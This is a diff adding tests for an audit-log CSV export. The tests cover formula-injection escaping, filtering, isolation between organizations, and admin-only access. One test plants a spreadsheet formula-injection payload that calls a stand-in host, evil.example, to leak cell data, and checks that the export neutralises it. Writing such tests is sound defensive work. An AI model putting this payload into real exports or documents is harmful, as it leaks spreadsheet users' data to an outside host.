@@ -3,7 +3,7 @@ import { startTestApp, type TestApp, type TestOrganization, type TestUser } from
 import { createInvitation } from '../invitations/contract.ts';
 import { updateOrganization } from '../organizations/contract.ts';
 import { createTeam } from '../teams/contract.ts';
-import { listAuditEvents } from './contract.ts';
+import { exportAuditEvents, listAuditEvents } from './contract.ts';
 
 let app: TestApp;
 let org: TestOrganization;
@@ -109,5 +109,63 @@ describe('the audit log', () => {
       const removed = [...text.matchAll(/Rows Removed by Filter: (\d+)/g)].map((m) => Number(m[1]));
       expect(Math.max(0, ...removed), text).toBeLessThan(100);
     }
+  });
+});
+
+describe('the export of the audit log', () => {
+  const exported = async (body: Record<string, string>, by: TestUser = org.admin) =>
+    (await app.call(by, exportAuditEvents, { body })).body;
+
+  test('is a file that no spreadsheet takes for formulas, with what was before and after', async () => {
+    const evil = '=HYPERLINK("https://evil.example?"&A1,"x")';
+    await app.call(org.admin, updateOrganization, { body: { support_contact: evil } });
+    await app.call(org.admin, updateOrganization, { body: { support_contact: 'say "hello", twice' } });
+    const text = await exported({ action: 'organization.updated', actor_id: org.admin.id });
+    expect(text.startsWith('\ufeff"at","event_id"')).toBe(true);
+    expect(text).toContain(
+      `"support_contact","'=HYPERLINK(""https://evil.example?""&A1,""x"")","say ""hello"", twice"\r\n`,
+    );
+    for (const value of text.matchAll(/(?<=^|,)"((?:[^"]|"")*)"/gm))
+      expect(value[1]).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  test('holds what the filter lets in and no other organization, however many pages it takes', async () => {
+    await app.db.many(
+      `insert into audit_events (organization_id, id, at, actor_kind, action, target_kind)
+       select $1, gen_random_uuid(), '2024-05-05T12:00:00Z', 'system', 'test.many', 'organization'
+       from generate_series(1, 2345)`,
+      [org.id],
+    );
+    const other = await app.organization();
+    await app.db.many(
+      `insert into audit_events (organization_id, id, at, actor_kind, action, target_kind)
+       values ($1, gen_random_uuid(), '2024-05-05T12:00:00Z', 'system', 'test.many', 'organization')`,
+      [other.id],
+    );
+    const text = await exported({ from: '2024-05-01', to: '2024-05-31' });
+    const ids = text
+      .split('\r\n')
+      .slice(1, -1)
+      .map((line) => line.split(',')[1]);
+    expect(ids).toHaveLength(2345);
+    expect(new Set(ids).size).toBe(2345);
+  });
+
+  test('is itself recorded, with its filter, and for Organization Admins only', async () => {
+    await exported({ action: 'team.created' });
+    const [event] = await list({ action: 'audit.exported', limit: 1 });
+    expect(event).toMatchObject({ actor: { id: org.admin.id } });
+    expect(event?.changes).toContainEqual({
+      field: 'filters',
+      before: null,
+      after: { action: 'team.created' },
+    });
+    const teamAdmin = await app.teamAdmin(await app.team(org));
+    const answer = await app.call(teamAdmin, exportAuditEvents, { body: {} });
+    expect(answer.status).toBe(403);
+    expect(await app.call(org.admin, exportAuditEvents, { body: { from: '2026-02-30' } })).toMatchObject({
+      status: 400,
+      problem: { errors: [{ pointer: '/from' }] },
+    });
   });
 });
